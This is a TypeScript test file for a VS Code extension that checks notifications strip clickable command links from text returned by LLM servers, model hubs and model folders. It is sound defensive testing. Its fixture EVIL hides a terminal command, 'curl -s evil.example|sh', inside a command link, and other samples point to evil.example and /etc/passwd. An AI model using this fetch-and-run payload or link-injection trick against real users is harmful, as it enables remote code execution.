// Notifications show what servers, model hubs and model folders say without a link VS Code
// would render: a "[label](command:…)" in their text would run that command with its
// arguments at one click (VS Code opens a notification's links with commands allowed).
// Against real servers on 127.0.0.1 (an LLM server, a small model's server, a local hub) and
// real folders; only the VS Code API is a stand-in (vscodeStub.ts).
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { after, afterEach, before, describe, test } from 'node:test';
import {
  answerQuestions,
  createExtensionContext,
  fileUri,
  questionsAsked,
  resetSettings,
  useVscodeStub,
  window,
  type StubExtensionContext,
} from './vscodeStub';
import { bundleSlmWorker, slmWorkerPids } from './slmWorkerBundle';
useVscodeStub();
import '../../../src/core/providers/registry';
import { createProvider } from '../../../src/core/providers/factory';
import { MemoryKeySource } from '../../../src/core/providers/secrets';
import { runProviderTest } from '../../../src/core/providers/providerTest';
import { startFakeServer, type FakeServer } from '../providers/servers/harness';
import { openAiError } from '../providers/servers/openai';
import { demoRepoFiles, FakeHub } from '../models/fakeHub';

// Loaded after the stub is in place (they import 'vscode').
// eslint-disable-next-line @typescript-eslint/no-require-imports
const { inertText, withProgressNotification } = require('../../../src/extension/notifications') as typeof import('../../../src/extension/notifications');
// eslint-disable-next-line @typescript-eslint/no-require-imports
const { testProvider } = require('../../../src/extension/providerTestCommand') as typeof import('../../../src/extension/providerTestCommand');
// eslint-disable-next-line @typescript-eslint/no-require-imports
const { selectServedModel } = require('../../../src/extension/selectServedModel') as typeof import('../../../src/extension/selectServedModel');
// eslint-disable-next-line @typescript-eslint/no-require-imports
const { selectModel } = require('../../../src/extension/selectModel') as typeof import('../../../src/extension/selectModel');

/** VS Code's parseLinkedText pattern (src/vs/base/common/linkedText.ts): what a notification renders as a link. */
const LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^\)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const linksIn = (text: string): string[] => [...text.matchAll(LINK)].map((match) => match[2]);

const COMMAND = 'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20-s%20evil.example%7Csh%5Cn%22%7D';
const EVIL = `[Open Settings](${COMMAND})`;

const REPO_ROOT = join(__dirname, '..', '..', '..');
const EXTENSION = join(REPO_ROOT, '.cache', 'test-notification-links');
const DEMO_SLM = join(REPO_ROOT, 'models', 'relay-demo-slm');

let ext: StubExtensionContext;
const folders: string[] = [];

before(async () => {
  await bundleSlmWorker(EXTENSION);
  ext = createExtensionContext(EXTENSION);
});
afterEach(() => answerQuestions(() => undefined));
after(() => {
  ext?.dispose();
  for (const folder of folders) rmSync(folder, { recursive: true, force: true });
  for (const pid of slmWorkerPids()) process.kill(pid, 'SIGKILL');
});

/** The error notifications shown since `from`. */
const errorsSince = (from: number): string[] =>
  questionsAsked
    .slice(from)
    .filter((q) => q.api === 'showErrorMessage')
    .map((q) => q.text);

/** The one error notification shown since `from`: it quotes `words` (the outside text still reads) and renders no link. */
function assertQuotedWithoutLink(from: number, words: RegExp): void {
  const errors = errorsSince(from);
  assert.equal(errors.length, 1, errors.join('\n'));
  assert.match(errors[0], words);
  assert.match(errors[0], /Open Settings/);
  assert.deepEqual(linksIn(errors[0]), [], errors[0]);
}

describe('inertText', () => {
  test('leaves no link VS Code renders, in any of the forms its pattern takes, and the text reads the same', () => {
    const forms = [
      EVIL,
      `[a](https://evil.example/x) and [b](http://evil.example) and [c](file:///etc/passwd)`,
      `[titled](command:x "Click me") [quoted](command:y 'too')`,
      `[[nested]](command:x) []](command:y) [a]](command:z) [A](COMMAND:upper)`,
      `${EVIL}${EVIL}`,
    ];
    for (const text of forms) {
      assert.ok(linksIn(text).length > 0, `the case itself has a link: ${text}`);
      assert.deepEqual(linksIn(inertText(text)), [], inertText(text));
    }
    assert.equal(inertText(EVIL), `[Open Settings] (${COMMAND})`);
    const plain = 'Relay: 127.0.0.1:8000 refused the request (HTTP 400). [relay.provider.model] f(x) = "a](b" is kept as written';
    assert.equal(inertText(plain), plain.replace('](', '] ('));
  });

  test("a progress notification's title and each step's message are made inert (they are its text)", async () => {
    const shown: { title?: string; messages: (string | undefined)[] } = { messages: [] };
    const original = window.withProgress;
    Object.assign(window, {
      withProgress: async (options: { title?: string }, task: (progress: { report(step: { message?: string }): void }, token: unknown) => Promise<unknown>) => {
        shown.title = options.title;
        return task(
          { report: (step) => shown.messages.push(step.message) },
          { isCancellationRequested: false, onCancellationRequested: () => ({ dispose() {} }) },
        );
      },
    });
    try {
      const result = await withProgressNotification({ title: `Relay: downloading ${EVIL}`, cancellable: true }, async (progress) => {
        progress.report({ message: `1 MB · onnx/${EVIL}.onnx`, increment: 5 });
        progress.report({ increment: 5 });
        return 'done';
      });
      assert.equal(result, 'done');
    } finally {
      Object.assign(window, { withProgress: original });
    }
    assert.deepEqual(linksIn(shown.title ?? ''), []);
    assert.match(shown.title ?? '', /Open Settings/);
    assert.equal(shown.messages.length, 2);
    assert.deepEqual(linksIn(shown.messages[0] ?? ''), []);
    assert.equal(shown.messages[1], undefined, 'a step without a message stays without one');
  });
});

test('"Relay: Test Provider": an LLM server\'s 400 that carries a command link is quoted without it', async () => {
  const server: FakeServer = await startFakeServer(openAiError(400, `The model id is wrong. ${EVIL}`, 'invalid_request_error', null));
  try {
    const provider = createProvider(
      { kind: 'openai-chat', baseUrl: `${server.url}/v1`, model: 'gpt-4o', maxRetries: 0 },
      new MemoryKeySource({ 'openai-chat': 'sk-test-0123456789abcdef' }),
    );
    const service = { testProvider: (write: (line: string) => void, options = {}) => runProviderTest(provider, null, write, options) };
    const output = { clear: () => undefined, appendLine: () => undefined, show: () => undefined };
    const from = questionsAsked.length;
    await testProvider(service, output);
    assert.ok(server.requests.length >= 1, 'the test asked the server');
    assertQuotedWithoutLink(from, /FAILED .*The server said: The model id is wrong\./);
  } finally {
    await server.close();
  }
});

test("Select Model, a model on a server: the server's error that carries a command link is quoted without it", async () => {
  const server: Server = createServer((req, res) => {
    req.resume();
    res.writeHead(400, { 'content-type': 'application/json' });
    res.end(JSON.stringify({ error: { message: `model not loaded. ${EVIL}` } }));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const url = `http://127.0.0.1:${(server.address() as { port: number }).port}/v1`;
  try {
    resetSettings();
    answerQuestions((q) => {
      if (q.api === 'showInputBox' && /server \(1\/4\)/.test(q.text)) return url;
      if (q.api === 'showQuickPick' && /what the server speaks/.test(q.text)) return q.items.find((item) => item.slmKind === 'completions-server');
      if (q.api === 'showInputBox' && /name on the server/.test(q.text)) return 'served-model';
      if (q.api === 'showOpenDialog') return [fileUri(DEMO_SLM)];
      return undefined; // the error is closed
    });
    const from = questionsAsked.length;
    await selectServedModel(ext.context);
    assertQuotedWithoutLink(from, /did not pass the test\. .*model not loaded\./);
  } finally {
    server.closeAllConnections();
    await new Promise<void>((resolve) => server.close(() => resolve()));
  }
});

describe('Select Model from a model hub and from a folder', () => {
  const REPO = 'evil-org/Linked-ONNX';
  let hub: FakeHub;

  before(async () => {
    const files = { ...demoRepoFiles(), 'config.json': Buffer.from(JSON.stringify({ model_type: EVIL })) };
    hub = await FakeHub.start({ [REPO]: { commit: 'e'.repeat(40), files } });
  });
  afterEach(() => hub.reset());
  after(() => hub.close());

  /** The user picks "Another model hub repository..." and types REPO; every error is closed. */
  function userTypesRepo(): void {
    answerQuestions((q) => {
      if (q.api === 'showQuickPick' && /Select the small model/.test(q.text)) return q.items.find((item) => /Another model hub repository/.test(item.label));
      if (q.api === 'showInputBox' && /model hub repository/.test(q.text)) return REPO;
      return undefined;
    });
  }

  test('a repository whose config.json names a command link as its model_type: said without the link, before any download', async () => {
    resetSettings({ 'relay.models.hubEndpoint': hub.endpoint });
    userTypesRepo();
    const from = questionsAsked.length;
    await selectModel(ext.context);
    assertQuotedWithoutLink(from, /evil-org\/Linked-ONNX is a ".*" model, which Relay's runtime does not run/);
    assert.ok(!hub.log.some((request) => request.path.includes('.onnx')), 'nothing was downloaded');
  });

  test("the hub's own error message (x-error-message) that carries a command link is quoted without it", async () => {
    resetSettings({ 'relay.models.hubEndpoint': hub.endpoint });
    hub.intercept = (server, req, res) => {
      if (server !== 'hub') return false;
      req.resume();
      res.writeHead(403, { 'x-error-message': `Access to this repository is restricted. ${EVIL}` });
      res.end();
      return true;
    };
    userTypesRepo();
    const from = questionsAsked.length;
    await selectModel(ext.context);
    assertQuotedWithoutLink(from, /The hub said: "Access to this repository is restricted\./);
  });

  test('a local folder whose config.json names a command link as its model_type: said without the link', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'relay-linked-model-'));
    folders.push(folder);
    writeFileSync(join(folder, 'config.json'), JSON.stringify({ model_type: EVIL }));
    resetSettings();
    answerQuestions((q) => {
      if (q.api === 'showQuickPick' && /Select the small model/.test(q.text)) return q.items.find((item) => /Use a local folder/.test(item.label));
      if (q.api === 'showOpenDialog') return [fileUri(folder)];
      return undefined;
    });
    const from = questionsAsked.length;
    await selectModel(ext.context);
    assertQuotedWithoutLink(from, /cannot use this folder as a small model: .*model_type ".*" is not supported/);
  });
});

/**
 * Files of src/extension that call window.show*Message directly: modal dialogs only, in which
 * VS Code renders no links. Every other notification goes through notifications.ts, so a new
 * one is inert by default.
 */
const DIRECT_CALLERS_NOT_YET_ROUTED = [
  'askModal.ts', // modal dialogs only: VS Code renders no links in them
];

test('every other notification in src/extension goes through notifications.ts', () => {
  const root = join(REPO_ROOT, 'src', 'extension');
  const direct: string[] = [];
  for (const entry of readdirSync(root, { recursive: true, withFileTypes: true })) {
    if (!entry.isFile() || !entry.name.endsWith('.ts')) continue;
    const path = join(entry.parentPath, entry.name);
    const name = relative(root, path).split('\\').join('/');
    if (name === 'notifications.ts' || DIRECT_CALLERS_NOT_YET_ROUTED.includes(name)) continue;
    const source = readFileSync(path, 'utf8');
    if (/window\s*\.\s*(show(Error|Warning|Information)Message|withProgress)\b/.test(source)) direct.push(name);
  }
  assert.deepEqual(direct, [], 'these show notifications without notifications.ts (showError, showWarning, showInformation, withProgressNotification)');
});
